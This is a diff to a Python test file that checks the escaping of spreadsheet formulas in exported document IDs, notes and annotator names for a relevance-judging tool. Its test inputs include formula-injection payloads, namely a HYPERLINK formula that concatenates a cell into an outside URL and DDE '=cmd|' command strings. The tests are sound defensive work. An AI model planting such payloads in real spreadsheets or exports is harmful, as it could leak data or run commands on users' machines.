@@ -31,6 +31,22 @@ def test_what_is_escaped_is_restored_and_no_formula(text: str) -> None:
     cell = spreadsheet.escape(text)
     assert spreadsheet.restore(cell) == text
     assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
+    as_id = spreadsheet.escape(text, "doc_id")
+    assert as_id in (text, cell)
+    assert spreadsheet.restore(as_id, "doc_id") == text
+
+
+@pytest.mark.parametrize(
+    "text", ['=HYPERLINK("http://x.org/"&A1)', "=cmd|'/C'!A0", "@SUM(A1)", "-[x]S!A1", "+'x'#$S.A1"]
+)
+def test_ids_that_call_something_become_text(text: str) -> None:
+    assert spreadsheet.escape(text, "doc_id") == f"'{text}"
+
+
+@pytest.mark.parametrize("text", ["-1", "=A1", "+a/b==", "-_x-7Q", "@ann", "--", "d1"])
+def test_ids_that_call_nothing_stay_as_they_are(text: str) -> None:
+    assert spreadsheet.escape(text, "doc_id") == text
+    assert spreadsheet.restore(f"'{text}", "doc_id") == f"'{text}"
 
 
 @given(texts, texts)
@@ -56,7 +72,7 @@ ids = st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Zs",
 @pytest.mark.slow
 @pytest.mark.parametrize("name", ["labels.csv", "labels.tsv", "labels.csv.gz"])
 @given(rows=st.lists(st.tuples(names, ids, ids), max_size=6, min_size=1, unique=True))
-@example(rows=[(text, "=1", "-d") for text in FORMULAS if text.isprintable()])
+@example(rows=[(text, "=f(1)", "-d") for text in FORMULAS if text.isprintable()])
 def test_labels_are_read_back(tmp_path_factory: pytest.TempPathFactory, name: str, rows: Any) -> None:
     path = tmp_path_factory.getbasetemp() / name
     frame = pd.DataFrame(rows, columns=["annotator", "query_id", "doc_id"]).assign(relevance=-1)
@@ -90,20 +106,20 @@ def cells(text: str, separator: str) -> list[list[str]]:
 def test_no_file_for_spreadsheets_has_a_formula(
     make_campaign: Callable[..., Campaign], files: Path, tmp_path: Path
 ) -> None:
-    (files / "documents.tsv").write_text("-d1\ttext\n=d2\ttext\n")
-    (files / "odd.run").write_text("1 Q0 -d1 1 2.0 =cmd|x\n1 Q0 =d2 2 1.0 =cmd|x\n")
+    (files / "documents.tsv").write_text("-d1\ttext\n=f(A2)\ttext\n")
+    (files / "odd.run").write_text("1 Q0 -d1 1 2.0 =cmd|x\n1 Q0 =f(A2) 2 1.0 =cmd|x\n")
     campaign = make_campaign("odd")
     campaign.importer.import_files(documents=[files / "documents.tsv"], runs=[files / "odd.run"])
     said = [
         Judgement(str(uuid4()), name, "1", doc, "graded", 1, note=note)
         for name, note in (("=ann", "=1+1"), ("-ben", "'=quoted"))
-        for doc in ("-d1", "=d2")
+        for doc in ("-d1", "=f(A2)")
     ]
     assert not campaign.judging.judge_many(said).refused
     campaign.export.files(judgements=tmp_path / "log.csv", labels=tmp_path / "labels.csv", qrels=tmp_path / "q.txt")
     header, *rows = cells((tmp_path / "log.csv").read_text(), ",")
     log = pd.DataFrame(rows, columns=header)
-    assert log["doc_id"].tolist() == ["-d1", "=d2"] * 2
+    assert log["doc_id"].tolist() == ["-d1", "'=f(A2)"] * 2
     assert log["note"].tolist() == ["'=1+1", "'=1+1", "''=quoted", "''=quoted"]
     assert {row[0] for row in cells((tmp_path / "labels.csv").read_text(), ",")} == {"annotator", "'=ann", "'-ben"}
     campaign.export.files(judgements=tmp_path / "log.jsonl")
